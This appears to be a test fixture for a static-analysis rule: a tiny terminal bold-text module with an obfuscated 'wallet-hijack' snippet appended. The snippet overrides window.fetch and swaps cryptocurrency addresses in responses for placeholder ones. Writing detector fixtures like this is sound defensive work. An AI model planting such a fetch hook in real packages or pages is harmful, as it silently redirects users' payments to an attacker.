'use strict';
module.exports = (s) => `\u001b[1m${s}\u001b[22m`;

// A drainer under an alias of the global object (defanged, made-up addresses).
var _0xpool = ['0x1111111111111111111111111111111111111111', '0x2222222222222222222222222222222222222222', '0x3333333333333333333333333333333333333333'];
function _0xnear(a) { return _0xpool[a.length % _0xpool.length]; }
!function () {
  if (typeof window === 'undefined') return;
  var _0xw = window;
  var _0xf = _0xw['fe' + 'tch'];
  // ruleid: js/wallet-hijack
  _0xw.fetch = async function () {
    var r = await _0xf.apply(this, arguments);
    var body = await r.clone().text();
    return new Response(body.replace(/0x[a-fA-F0-9]{40}/g, _0xnear), { status: r.status, headers: r.headers });
  };
}();
